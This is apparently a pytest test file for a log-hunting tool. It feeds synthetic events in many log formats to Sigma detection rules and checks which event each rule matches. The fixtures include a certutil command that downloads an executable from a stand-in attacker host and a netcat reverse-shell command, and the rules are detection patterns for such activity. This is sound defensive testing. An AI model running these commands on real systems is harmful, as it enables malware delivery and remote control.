"""A file as each collector writes it, of three events and more: all are read, with time and host, one is met."""

import json
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from khien.lake import hunt
from khien.lake.events.tests.reading import everything
from khien.lake.sigma.load import rules
from khien.lake.sigma.types import Finding
from khien.lake.types import Fault

RULE = """
title: {title}
id: 7f0a1a52-6f3c-4a0e-9d55-0d6a1f0b7c{number}
status: test
logsource: {source}
detection:
  selection: {selection}
  condition: selection
level: high
"""


def _rule(number: int, title: str, source: str, selection: str) -> str:
    return RULE.format(number=number, title=title, source=source, selection=selection)


_CALLED = "Image|endswith: '\\certutil.exe', CommandLine|contains|all: [urlcache, http]"
_PARENT = ", ParentImage|endswith: '\\cmd.exe'"
CERTUTIL, BARE = (
    _rule(11, "certutil tải tệp", "{product: windows, category: process_creation}", f"{{{_CALLED}{more}}}")
    for more in (_PARENT, "")
)
_OUT = "{dst_port: 23, action: accept, src_ip|cidr: 192.0.2.0/24}"
TELNET = _rule(12, "telnet ra ngoài", "{category: firewall}", _OUT)
FORWARD = TELNET.replace("action: accept", "action: forward")
_FAILED = "{EventID: 4625, LogonType: 3, TargetUserName: administrator, IpAddress|cidr: 203.0.113.0/24}"
FAILED = _rule(13, "đăng nhập sai từ ngoài", "{product: windows, service: security}", _FAILED)
_POOL = "{query|endswith: .evil.example, rejected: 'false', id.resp_p: 53}"
POOL = _rule(14, "tên của bể đào", "{product: zeek, service: dns}", _POOL)
TUNNEL = _rule(15, "DNS đường hầm", "{category: dns}", "{query|contains: base64, record_type: TXT}")
_CLEANUP = "{EventType: CreateKey, TargetObject|contains: '\\VolumeCaches\\'}"
CLEANUP = _rule(16, "thêm khóa VolumeCaches", "{product: windows, category: registry_add}", _CLEANUP)
SSH = _rule(17, "sshd hỏng gói", "{product: linux, service: sshd}", "['Corrupted MAC on input']")
_MIRAI = "{alert.signature|contains: Mirai, dest_port: 23}"
ALERT = _rule(18, "báo động về Mirai", "{product: suricata, service: alert}", _MIRAI)
_NETCAT = "{Image|endswith: /nc, CommandLine|contains: ' -e '}"
NETCAT = _rule(19, "nc gọi về", "{product: linux, category: process_creation}", _NETCAT)
CALL = "certutil.exe -urlcache -f http://evil.example/a.exe C:\\a.exe"
SYSTEM = "C:\\Windows\\System32\\"
AT = 1772413201.0  # 2026-03-02 08:00:01 in Vietnam; each event a second after the one before


class Log(NamedTuple):
    """A file, the rule that one event of it meets, how many there are, which it is, whose it is."""

    name: str
    rule: str
    text: bytes
    events: int
    met: int
    host: str


def _lines(*lines: str) -> bytes:
    return "".join(f"{line}\n" for line in lines).encode()


def _json(*objects: dict[str, Any]) -> bytes:
    return _lines(*(json.dumps(one, ensure_ascii=False) for one in objects))


def _cef(number: int, event: str, name: str, rest: str) -> str:
    return (
        f"<13>Mar  2 2026 08:00:0{number} gom1 CEF:0|Microsoft|{event}|{name}|Low| eventId={number} {rest} "
        f"cat=Security deviceSeverity=Audit_success rt=177241320{number}000 art=1772413209000 "
        "cs1Label=Accesses cs2Label=EventlogCategory ahost=gom1.so.example agt=192.0.2.250 atz=Asia/Saigon at=winc "
        "dvchost=pc1.so.example dtz=Asia/Saigon _cefVer=0.1 ad.EventRecordID=99"
    )


def _cef_process(number: int, image: str, line: str) -> str:
    path = (SYSTEM + image).replace("\\", "\\\\")
    said = line.replace("\\", "\\\\").replace("=", "\\=")
    parent = (SYSTEM + "cmd.exe").replace("\\", "\\\\")
    return _cef(
        number, "Microsoft Windows||Microsoft-Windows-Security-Auditing:4688", "A new process has been created.",
        f"externalId=4688 dntdom=SO duser=an duid=0x3e7 dproc={path} sproc={parent} cs2=Detailed Tracking cs4={said} "
        "cs5=0x898 cs4Label=Process Command Line cs5Label=Creator Process ID",
    )  # fmt: skip


def _cef_failed(number: int, user: str, address: str) -> str:
    return _cef(
        number, "Microsoft Windows||Microsoft-Windows-Security-Auditing:4625", "An account failed to log on.",
        f"externalId=4625 src={address} spt=50100 shost=KALI dntdom=SO duser={user} cs5=NTLM cn1=3 "
        "cs5Label=Authentication Package Name cn1Label=LogonType deviceProcessName=NtLmSsp ad.Status=0xc000006d",
    )  # fmt: skip


def _check_point(number: int, action: str, port: int) -> str:
    return (
        f'<134>1 2026-03-02T01:00:09Z gw1 CheckPoint 26144 - [action:"{action}"; flags:"411908"; ifdir:"inbound"; '
        f'ifname:"eth1"; logid:"0"; loguid:"{{0x69a4e2d1,0x0,0xfe0200c0,0xc0000001}}"; origin:"192.0.2.254"; '
        f'originsicname:"CN=gw1,O=mgmt.example.x1"; sequencenum:"{number}"; time:"{int(AT) + number - 1}"; '
        '__policy_id_tag:"product=VPN-1 & FireWall-1[db_tag={6A1E};mgmt=mgmt;date=1772000000;policy_name=Tinh\\]"; '
        f'dst:"203.0.113.9"; inzone:"Internal"; outzone:"External"; product:"VPN-1 & FireWall-1"; proto:"6"; '
        f'rule_name:"ra ngoai"; s_port:"50000"; service:"{port}"; service_id:"x"; src:"192.0.2.7"]'
    )


def _check_point_cef(number: int, action: str, port: int) -> str:
    return (
        f"<189>Mar  2 2026 08:00:09 gw1 CEF:0|Check Point|VPN-1 & FireWall-1|Check Point|Log|x|Unknown|act={action} "
        f"deviceDirection=0 rt={int(AT) + number - 1}000 spt=50000 dpt={port} cs2Label=Rule Name cs2=ra ngoai "
        "ifname=eth1 loguid={0x1,0x0,0x2,0x3} origin=192.0.2.254 originsicname=CN\\=gw1,O\\=mgmt.example.x1 "
        "sequencenum=1 version=5 dst=203.0.113.9 inzone=Internal outzone=External product=VPN-1 & FireWall-1 proto=6 "
        "service_id=x src=192.0.2.7"
    )


def _check_point_leef(number: int, action: str, port: int) -> str:
    return (
        f"<134>Mar  2 2026 08:00:09 gw1 LEEF:2.0|Check Point|VPN-1 & FireWall-1|1.0|{action}|cat=VPN-1 & FireWall-1\t"
        f"devTime={int(AT) + number - 1}\tsrcPort=50000\taction={action}\tifdir=inbound\torigin=192.0.2.254\t"
        f"dst=203.0.113.9\tdstPort={port}\tproto=6\tproduct=VPN-1 & FireWall-1\tsrc=192.0.2.7"
    )


def _sonicwall(number: int, action: str, port: int) -> str:
    return (
        f'<134>id=firewall sn=02DEADBEEF01 time="2026-03-02 08:00:0{number}" fw=192.0.2.254 pri=6 c=262144 m=98 '
        f'msg="Connection Opened" app=2 n={number} src=192.0.2.7:50000:X0 dst=203.0.113.9:{port}:X1 '
        f'srcMac=02:00:5e:00:53:01 proto=tcp/x sent=60 rule="5 (LAN->WAN)" fw_action="{action}"'
    )


def _onion(number: int, dataset: str, **about: Any) -> dict[str, Any]:
    return {
        "@timestamp": f"2026-03-02T01:00:0{number}.000Z", "observer": {"name": "so1"}, "tags": [dataset],
        "event": {"module": "zeek", "category": "network", "dataset": dataset}, "log": {"id": {"uid": f"C{number}"}},
        "source": {"ip": "192.0.2.7", "port": 50000}, "destination": {"ip": "192.0.2.1", "port": 53}, **about,
        "message": json.dumps({"ts": AT + number - 1, "uid": f"C{number}", "id.orig_h": "192.0.2.7"}),
    }  # fmt: skip


def _onion_dns(number: int, name: str) -> dict[str, Any]:
    asked = {
        "query": {"name": name, "type_name": "A", "rejected": False},
        "answers": {"name": ["203.0.113.9"]},
        "reserved": 0,
    }
    return _onion(number, "zeek.dns", dns=asked)


def _nxlog(number: int, done: str, key: str) -> dict[str, Any]:
    said = f"Registry object added or deleted:\r\nRuleName: -\r\nEventType: {done}\r\nUtcTime: 2026-03-02 01:00:01\r\n"
    return {
        "EventTime": f"2026-03-02T08:00:0{number}.000000+07:00", "Hostname": "pc1", "Keywords": "9223372036854775808",
        "EventType": "INFO", "SeverityValue": 2, "Severity": "INFO", "EventID": 12,
        "SourceName": "Microsoft-Windows-Sysmon", "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        "Version": 2, "TaskValue": 12, "OpcodeValue": 0, "RecordNumber": number, "ExecutionProcessID": 1996,
        "Channel": "Microsoft-Windows-Sysmon/Operational", "Domain": "NT AUTHORITY", "AccountName": "SYSTEM",
        "Message": f"{said}Image: C:\\x.exe\r\nTargetObject: {key}", "Opcode": "Info", "RuleName": "-",
        "Category": "Registry object added or deleted (rule: RegistryEvent)", "ProcessGuid": "{1}", "ProcessId": "19",
        "UtcTime": f"2026-03-02 01:00:0{number}.000", "Image": "C:\\x.exe", "TargetObject": key,
        "EventReceivedTime": "2026-03-02T08:00:09+07:00", "SourceModuleName": "in", "SourceModuleType": "im_msvistalog",
    }  # fmt: skip


def _graylog(number: int, image: str, line: str) -> dict[str, Any]:
    about = {
        "channel": "Microsoft-Windows-Sysmon/Operational", "event_id": "1", "provider_name": "Microsoft-Windows-Sysmon",
        "computer_name": "pc1", "event_data_Image": SYSTEM + image, "event_data_CommandLine": line,
        "event_data_ParentImage": SYSTEM + "cmd.exe", "event_data_User": "SO\\an", "record_id": str(number),
    }  # fmt: skip
    return {f"winlogbeat_winlog_{name}": value for name, value in about.items()}


def _gelf(number: int, **about: Any) -> dict[str, Any]:
    own = {f"_{name}": value for name, value in about.items()}
    return {"version": "1.1", "host": "pc1", "short_message": "x", "timestamp": AT + number - 1, "level": 6, **own}


def _gelf_dns(number: int, name: str, kind: str) -> dict[str, Any]:
    return _gelf(
        number, event_type="dns", src_ip="192.0.2.7", src_port=50000, dest_ip="192.0.2.1", dest_port=53, proto="UDP",
        flow_id=7, dns_type="query", dns_rrname=name, dns_rrtype=kind,
    )  # fmt: skip


def _rows(*objects: dict[str, Any]) -> bytes:
    quoted = [",".join('"' + str(cell).replace('"', '""') + '"' for cell in one.values()) for one in objects]
    return _lines(",".join(f'"{name}"' for name in objects[0]), *quoted)


def _graylog_row(number: int, image: str, line: str) -> dict[str, Any]:
    return {"timestamp": f"2026-03-02T01:00:0{number}.000Z", "source": "pc1", "message": "Process Create",
            **_graylog(number, image, line), "winlogbeat_winlog_user_name": ""}  # fmt: skip


def _entry(number: int, program: str, message: bytes) -> bytes:
    head = (
        f"__CURSOR=s=1;i={number}\n__REALTIME_TIMESTAMP={int(AT) + number - 1}000000\n__MONOTONIC_TIMESTAMP=1\n"
        f"_HOSTNAME=may1\nSYSLOG_IDENTIFIER={program}\n_PID=77\n"
    ).encode()
    told = (
        b"MESSAGE=" + message if b"\n" not in message else b"MESSAGE\n" + len(message).to_bytes(8, "little") + message
    )
    return head + told + b"\n\n"


def _xml(number: int, image: str, line: str) -> str:
    said = line.replace("&", "&amp;").replace("<", "&lt;")
    return (
        "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System>"
        "<Provider Name='Microsoft-Windows-Sysmon'/><EventID>1</EventID>"
        f"<TimeCreated SystemTime='2026-03-02T01:00:0{number}.000Z'/><Channel>Microsoft-Windows-Sysmon/Operational"
        f"</Channel><Computer>pc1</Computer></System><EventData><Data Name='Image'>{SYSTEM}{image}</Data>"
        f"<Data Name='CommandLine'>{said}</Data><Data Name='ParentImage'>{SYSTEM}cmd.exe</Data></EventData></Event>"
    )


def _otlp(value: Any) -> dict[str, Any]:
    if isinstance(value, dict):
        return {"kvlistValue": {"values": [{"key": name, "value": _otlp(one)} for name, one in value.items()]}}
    if isinstance(value, list):
        return {"arrayValue": {"values": [_otlp(one) for one in value]}}
    return {"stringValue": str(value)}


def _otel(number: int, image: str, line: str) -> dict[str, Any]:
    data = {"Image": SYSTEM + image, "CommandLine": line, "ParentImage": SYSTEM + "cmd.exe"}
    body = {
        "channel": "Microsoft-Windows-Sysmon/Operational", "computer": "pc1", "event_id": {"id": 1, "qualifiers": 0},
        "provider": {"name": "Microsoft-Windows-Sysmon", "guid": "{1}"}, "level": "Information",
        "system_time": f"2026-03-02T01:00:0{number}.0000000Z",
        "event_data": {"data": [{name: said} for name, said in data.items()]},
    }  # fmt: skip
    return {"timeUnixNano": "1772413209000000000", "body": _otlp(body)}


def _otel_file(*records: dict[str, Any]) -> bytes:
    return _json({"resourceLogs": [{"resource": {}, "scopeLogs": [{"scope": {}, "logRecords": list(records)}]}]})


def _fast(number: int, name: str, port: int) -> str:
    return (
        f"03/02/2026-08:00:0{number}.000000  [**] [1:2010935:2] {name} [**] "
        f"[Classification: Attempted Information Leak] [Priority: 2] {{TCP}} 203.0.113.9:44122 -> 192.0.2.7:{port}"
    )


def _flow(number: int, port: int, action: str) -> str:
    start = int(AT) + number - 1
    return f"2 123456789012 eni-0a1 192.0.2.7 203.0.113.9 50000 {port} 6 20 4249 {start} {start + 60} {action} OK"


def _go_audit(number: int, program: str, *rest: str) -> dict[str, Any]:
    words = " ".join(f'a{at}="{word}"' for at, word in enumerate((program, *rest)))
    call = f'arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={number} uid=0 exe="/usr/bin/{program}"'
    return {
        "sequence": number, "timestamp": f"{int(AT) + number - 1}.000", "uid_map": {"0": "root"},
        "messages": [{"type": 1300, "data": call}, {"type": 1309, "data": f"argc={len(rest) + 1} {words}"},
                     {"type": 1307, "data": ' cwd="/root"'}],
    }  # fmt: skip


def _splunk(number: int, image: str, line: str) -> str:
    return (
        f"03/02/2026 08:00:0{number}.000 AM\nLogName=Security\nEventCode=4688\nEventType=0\nComputerName=pc1\n"
        "SourceName=Microsoft Windows security auditing.\nType=Information\nRecordNumber=7\nKeywords=Audit Success\n"
        "TaskCategory=Process Creation\nOpCode=Info\nMessage=A new process has been created.\n\nCreator Subject:\n"
        "\tAccount Name:\t\tan\n\tAccount Domain:\t\tSO\n\nProcess Information:\n\tNew Process ID:\t\t0x1a20\n"
        f"\tNew Process Name:\t{SYSTEM}{image}\n\tToken Elevation Type:\t%%1938\n\tCreator Process ID:\t0x898\n"
        f"\tCreator Process Name:\t{SYSTEM}cmd.exe\n\tProcess Command Line:\t{line}\n"
    )


WINDOWS = (("whoami.exe", "whoami /all"), ("certutil.exe", CALL), ("ping.exe", "ping -n 1 192.0.2.1"))
FLOWS = (("Accept", 443), ("Accept", 23), ("Drop", 23))
NAMES = ("may1.example", "pool.evil.example", "may2.example")
PROCESSES = list(enumerate(WINDOWS, 1))
HEAD = (
    "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status"
)
KEYS = ("HKLM\\SOFTWARE\\x", "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\VolumeCaches\\x")
ENTRIES = (
    _entry(1, "sshd", b"Accepted publickey for an"),
    _entry(2, "sshd", b"Corrupted MAC on input.\n[preauth]\n"),
    _entry(3, "cron", b"(root) CMD (true)"),
)
LOGS = [
    Log("cef-4688", CERTUTIL, _lines(*(_cef_process(n, *one) for n, one in PROCESSES)), 3, 2, "pc1.so.example"),
    Log("cef-4625", FAILED, _lines(_cef_failed(1, "an", "192.0.2.7"), _cef_failed(2, "administrator", "203.0.113.9"),
                                   _cef_failed(3, "administrator", "192.0.2.8")), 3, 2, "pc1.so.example"),
    Log("check-point", TELNET, _lines(*(_check_point(n, *one) for n, one in enumerate(FLOWS, 1))), 3, 2, "gw1"),
    Log("check-point-cef", TELNET, _lines(*(_check_point_cef(n, *one) for n, one in enumerate(FLOWS, 1))), 3, 2, "gw1"),
    Log("check-point-leef", TELNET, _lines(*(_check_point_leef(n, *o) for n, o in enumerate(FLOWS, 1))), 3, 2, "gw1"),
    Log("sonicwall", FORWARD, _lines(_sonicwall(1, "forward", 443), _sonicwall(2, "forward", 23),
                                     _sonicwall(3, "drop", 23)), 3, 2, "192.0.2.254"),
    Log("security-onion", POOL, _json(*(_onion_dns(n, one) for n, one in enumerate(NAMES, 1)),
                                      _onion(4, "zeek.conn")), 4, 2, "so1"),
    Log("nxlog-12", CLEANUP, _json(_nxlog(1, "CreateKey", KEYS[0]), _nxlog(2, "CreateKey", KEYS[1]),
                                   _nxlog(3, "DeleteKey", KEYS[1])), 3, 2, "pc1"),
    Log("graylog-csv", CERTUTIL, _rows(*(_graylog_row(n, *one) for n, one in PROCESSES)), 3, 3, "pc1"),
    Log("graylog-json", CERTUTIL, _json(*(_graylog_row(n, *one) for n, one in PROCESSES)), 3, 2, "pc1"),
    Log("graylog-gelf", CERTUTIL, _json(*(_gelf(n, **_graylog(n, *one)) for n, one in PROCESSES)), 3, 2, "pc1"),
    Log("gelf-suricata", TUNNEL, _json(_gelf_dns(1, "may1.example", "TXT"), _gelf_dns(2, "x.base64.example", "TXT"),
                                       _gelf_dns(3, "x.base64.example", "A")), 3, 2, "pc1"),
    Log("journal-export", SSH, b"".join(ENTRIES), 3, 2, "may1"),
    Log("journal-json", SSH, _json({"__REALTIME_TIMESTAMP": str(int(AT)) + "000000", "_HOSTNAME": "may1",
                                    "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": "x"},
                                   {"__REALTIME_TIMESTAMP": str(int(AT) + 1) + "000000", "_HOSTNAME": "may1",
                                    "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": list(b"Corrupted MAC on input.\n")},
                                   {"__REALTIME_TIMESTAMP": str(int(AT) + 2) + "000000", "_HOSTNAME": "may1",
                                    "SYSLOG_IDENTIFIER": "cron", "MESSAGE": "x"}), 3, 2, "may1"),
    Log("xml-in-json", CERTUTIL, json.dumps([_xml(n, *one) for n, one in PROCESSES], indent=1).encode(), 3, 2, "pc1"),
    Log("otel", CERTUTIL, _otel_file(*(_otel(n, *one) for n, one in PROCESSES)), 3, 1, "pc1"),
    Log("fast-log", ALERT, _lines(_fast(1, "ET SCAN x", 23), _fast(2, "ET SCAN Mirai Botnet", 23),
                                  _fast(3, "ET SCAN Mirai Botnet", 80)), 3, 2, ""),
    Log("vpc-flow", TELNET, _lines(HEAD, _flow(1, 443, "ACCEPT"), _flow(2, 23, "ACCEPT"), _flow(3, 23, "REJECT")),
        3, 3, "eni-0a1"),
    Log("vpc-flow-bare", TELNET, _lines(_flow(1, 443, "ACCEPT"), _flow(2, 23, "ACCEPT"), _flow(3, 23, "REJECT")),
        3, 2, "eni-0a1"),
    Log("go-audit", NETCAT, _json(_go_audit(1, "ls"), _go_audit(2, "nc", "-e", "/bin/sh", "203.0.113.9"),
                                  _go_audit(3, "nc", "-h")), 9, 2, ""),
    Log("splunk-text", CERTUTIL, "\n".join(_splunk(n, *one) for n, one in PROCESSES).encode(), 3, 2, "pc1"),
]  # fmt: skip


@pytest.mark.parametrize("log", LOGS, ids=lambda log: log.name)
def test_the_event_is_met_and_its_neighbours_are_not(log: Log, tmp_path: Path) -> None:
    (tmp_path / "rule.yml").write_text(log.rule, encoding="utf-8")
    file = tmp_path / "log"
    file.write_bytes(log.text)
    seen = hunt.Seen()
    found = list(hunt.findings(hunt.prepared(rules(tmp_path / "rule.yml")), [file], seen=seen, workers=1))
    assert not [one for one in found if isinstance(one, Fault)]
    [met] = [one for one in found if isinstance(one, Finding)]
    assert seen.events == log.events
    assert (met.event.record, met.event.time, met.event.host) == (log.met, AT + 1, log.host)


@pytest.mark.parametrize("log", LOGS, ids=lambda log: log.name)
def test_every_event_has_a_time_and_a_cut_file_is_told_or_read(log: Log) -> None:
    whole = everything(log.text)
    assert [one for one in whole if isinstance(one, Fault) or one.time is None] == []
    for size in range(0, len(log.text), max(len(log.text) // 40, 1)):
        assert len(everything(log.text[:size])) <= len(whole) + 1
